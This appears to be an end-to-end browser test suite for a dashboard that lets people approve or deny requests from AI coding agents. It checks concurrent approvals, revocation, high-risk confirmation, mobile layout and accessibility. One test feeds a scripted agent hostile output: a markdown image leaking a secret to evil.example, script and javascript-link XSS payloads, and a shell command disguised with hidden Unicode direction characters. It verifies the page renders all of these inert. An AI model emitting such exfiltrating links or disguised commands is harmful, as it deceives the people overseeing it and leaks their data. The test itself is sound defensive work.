import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { describeNeeding } from '../support/requirements.js'
import { examineAll } from './axe.js'
import {
  browser,
  card,
  closePage,
  errors,
  foreign,
  newLink,
  openPage,
  page,
  press,
  pressKey,
  served,
} from './dashboard/context.js'
import { describeRequests } from './dashboard/requests.js'
import { describeSessionsAndRuns } from './dashboard/sessions-and-runs.js'
import { logIn, openContext, show } from './harness.js'

/**
 * The live demo: real server, real terminals, scripted agents. All tests use one browser and one
 * server, in order: later tests depend on the decisions of earlier ones.
 */
describeNeeding('chromium', 'the dashboard of the demo', () => {
  beforeAll(openPage)
  afterAll(closePage)

  describeRequests()
  describeSessionsAndRuns()

  it('starts a session from the form', async () => {
    await show(page, '/start')
    await page.getByLabel('Agent').selectOption('demo')
    await page.getByText('More options').click()
    await page.getByLabel('Name (optional)').fill('started on the page')
    await page.getByLabel('First prompt (optional)').fill('hello')
    await page.getByRole('button', { name: 'Start session' }).click()
    await page.locator('h1', { hasText: 'started on the page' }).waitFor()
  })

  it('settings, doctor and the theme are shown', async () => {
    await show(page, '/settings')
    await page.getByRole('switch', { name: 'An agent needs me' }).waitFor()
    await show(page, '/settings/advanced?show=all')
    await page.getByText('Names of this server').waitFor()
    await page.getByRole('link', { name: 'Doctor' }).click()
    await page.locator('.doctor-line').first().waitFor()
    await page.getByRole('link', { name: 'Appearance' }).click()
    await page.getByRole('button', { name: 'Dark' }).click()
    expect(await page.evaluate(() => document.documentElement.dataset.theme)).toBe('dark')
    await page.getByRole('button', { name: 'System' }).click()
  })

  it('one of two browsers that decide at once succeeds; a revoked browser is signed out at once', async () => {
    const other = await openContext(browser, { viewport: { width: 1280, height: 800 }, reducedMotion: 'reduce' })
    const rival = await logIn(other, await newLink())
    await show(page, '/start')
    await page.getByLabel('Agent').selectOption('demo')
    await page.getByText('More options').click()
    await page.getByLabel('Name (optional)').fill('the race')
    await page.getByLabel('First prompt (optional)').fill('The tests fail. Find out why and fix it.')
    await page.getByLabel('Extra arguments').fill('--scenario tour --speed 10')
    await page.getByRole('button', { name: 'Start session' }).click()
    const mine = card(/src\/cart\.js/)
    await mine.waitFor()
    const id = await mine.getAttribute('data-approval')
    for (const one of [page, rival]) {
      await one.goto(`${served.address}/a/${id}`)
      await one.getByRole('button', { name: 'Allow once' }).waitFor()
    }
    // Both decisions are held back until both buttons were pressed.
    let arrived = 0
    let release = () => {}
    const both = new Promise<void>(resolve => {
      release = resolve
    })
    for (const one of [page, rival])
      await one.route(/\/decision/, async route => {
        if (++arrived === 2) release()
        await both
        await route.continue()
      })
    await Promise.all([page, rival].map(one => press(one.locator('article.card'), 'Allow once')))
    await Promise.race([page, rival].map(one => one.locator('.toast.bad').waitFor()))
    await Promise.all([page, rival].map(one => one.locator('.card-end').getByText('Allowed').waitFor()))
    await page.unroute(/\/decision/)
    const counts = await Promise.all([page, rival].map(one => one.locator('.toast.bad').count()))
    expect(counts.reduce((sum, count) => sum + count, 0)).toBe(1)

    await page.goto(`${served.address}/settings/people`)
    const others = page.getByRole('row').filter({ hasText: 'Revoke' })
    await others.first().waitFor()
    for (let left = await others.count(); left > 0; left--) {
      await others.first().getByRole('button', { name: 'Revoke' }).click()
      await others.nth(left - 1).waitFor({ state: 'detached' })
    }
    await rival.getByText('Login link or passphrase').waitFor()
    await other.close()
  })

  it('text of an agent stays text: it loads nothing, and its hidden characters are shown', async () => {
    const scenario = join(served.directory, 'hostile.json')
    const hidden = 'echo safe \u202e; ls\u200b -la \u2066'
    writeFileSync(
      scenario,
      JSON.stringify({
        name: 'hostile',
        turns: [
          {
            steps: [
              {
                say: 'Look: ![a picture](https://evil.example/leak.png?secret=1) and [a page](javascript:alert(1)) <img src="https://evil.example/x.png" onerror="alert(1)"> <script>alert(1)</script>',
              },
              { tool: { name: 'Shell', kind: 'shell', command: hidden, permission: true } },
            ],
          },
        ],
      }),
    )
    await show(page, '/start')
    await page.getByLabel('Agent').selectOption('demo')
    await page.getByLabel('First prompt (optional)').fill('go')
    await page.getByText('More options').click()
    await page.getByLabel('Extra arguments').fill(`--scenario ${scenario} --speed 10`)
    await page.getByRole('button', { name: 'Start session' }).click()
    const asked = page.locator('article.card')
    await asked.waitFor()
    expect(await asked.locator('mark').count()).toBeGreaterThan(0)
    expect(await asked.locator('.request').textContent()).not.toMatch(/[\u200b\u202e\u2066]/)
    expect(await page.locator('.talk').textContent()).not.toMatch(/[\u200b\u202e\u2066]/)
    expect(await page.locator('.talk :is(img, script, iframe)').count()).toBe(0)
    expect(await page.locator('.talk a[href^="javascript"]').count()).toBe(0)
    expect(foreign).toEqual([])
  })

  it('allows a high risk by keyboard only after a confirmation that Enter does not give', async () => {
    const asked = page.locator('article.card')
    const dialog = page.getByRole('dialog', { name: 'Allow this high-risk request?' })
    await pressKey(asked, 'a', dialog)
    expect(await dialog.textContent()).toContain('High risk')
    await page.keyboard.press('Enter')
    await dialog.waitFor({ state: 'detached' })
    expect(await asked.locator('.card-end').count()).toBe(0)
    await pressKey(asked, 'a', dialog)
    await page.keyboard.press('Tab')
    await page.keyboard.press('Enter')
    await asked
      .locator('.card-end .badge')
      .getByText(/Allowed|Answered/)
      .waitFor()
  })

  it('has a bottom bar on a phone and does not scroll sideways', async () => {
    await page.setViewportSize({ width: 390, height: 844 })
    await page.goto(`${served.address}/`)
    await page.locator('.bottom').waitFor()
    const sideways = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)
    expect(sideways).toBeLessThanOrEqual(0)
    await page.getByRole('button', { name: 'More', exact: true }).click()
    await page.getByRole('dialog', { name: 'More' }).getByRole('link', { name: 'Usage' }).click()
    await page.waitForURL(/\/usage/)
    await page.setViewportSize({ width: 1440, height: 900 })
  })

  it('the pages made no request to another server and logged no error', () => {
    expect(foreign).toEqual([])
    expect(errors).toEqual([])
  })

  describe('accessibility', () => {
    const LIVE = [
      '/',
      '/sessions?show=ended',
      '/s/1',
      '/panes',
      '/runs',
      '/run',
      '/replay',
      '/compare',
      '/compare/runs',
    ]
    const OTHERS = [
      '/requests',
      '/usage',
      '/workers',
      '/graphs',
      '/start',
      '/start?what=run',
      '/start?what=adopt',
      '/search?q=test',
      '/settings',
      '/settings/approvals',
      '/settings/remote',
      '/settings/advanced',
      '/settings/doctor',
      '/settings/people',
      '/settings/page',
    ]
    it.each([
      ['live data', LIVE],
      ['forms and settings', OTHERS],
    ])('axe finds no violation on the pages with %s, wide and narrow, light and dark', async (_, paths) => {
      await page.emulateMedia({ colorScheme: 'light', reducedMotion: 'reduce' })
      await page.setViewportSize({ width: 1440, height: 900 })
      await page.goto(`${served.address}/`)
      const found: string[] = []
      for (const path of paths) {
        await show(page, await addressOf(path))
        found.push(...(await examineAll(page, path)))
      }
      expect(found).toEqual([])
    })

    const addresses = new Map<string, string>()
    /** The address of a page; a page about one resource shows the first of its kind. */
    async function addressOf(path: string): Promise<string> {
      const known = addresses.get(path)
      if (known) return known
      const found = await find(path)
      addresses.set(path, found)
      return found
    }

    async function find(path: string): Promise<string> {
      if (!['/run', '/replay', '/s/1', '/compare', '/compare/runs'].includes(path)) return path
      const isRun = path === '/run' || path === '/compare/runs'
      await show(page, isRun ? '/runs' : '/sessions?show=ended')
      const href = (await page
        .locator(`main a[href^="${isRun ? '/r/' : '/s/'}"]`)
        .first()
        .getAttribute('href'))!
      const id = href.slice(3)
      if (path === '/compare') return `/compare?a=${id}&b=${id}&bt=0`
      if (path === '/compare/runs') return `/compare/runs?a=${id}&b=${id}`
      return path === '/replay' ? `/replay/${id}` : href
    }
  })
})
